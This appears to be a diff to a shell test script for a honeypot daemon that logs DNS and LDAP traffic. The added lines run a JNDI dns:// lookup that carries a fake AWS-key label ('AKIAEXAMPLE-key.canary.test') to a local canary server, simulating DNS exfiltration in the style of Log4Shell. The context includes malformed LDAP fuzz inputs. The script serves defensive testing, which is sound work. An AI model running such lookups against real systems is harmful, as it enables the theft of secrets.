@@ -95,6 +95,10 @@ wait_events "$EV" '"event":"dns.query"' 3
 ev_query "$EV" "e['dns']['name'] if e['event'] == 'dns.query' and e['dns']['in_zone'] else None" |
     grep -qx "abc123.exfil.canary.test" || fail "DNS name not recorded"
 ok "DNS: in-zone A answered with the honeypot address, others refused, names recorded"
+# jndi:dns:// makes the JDK query the named server directly (TXT)
+java -cp "$T" JndiClient "dns://127.0.0.1:$PD/AKIAEXAMPLE-key.canary.test" >/dev/null || true
+wait_events "$EV" '"name":"AKIAEXAMPLE-key.canary.test","qtype":16'
+ok "JVM dns:// lookup recorded (TXT query with the exfiltrated label)"
 
 # ---- malformed input on every protocol; the daemon keeps serving -------------------------
 bad_ldap=("ffffffff" "3084ffffffff" "300502010160" "3003020101" "30050201017f00" "300c020101600702010304008000ff")
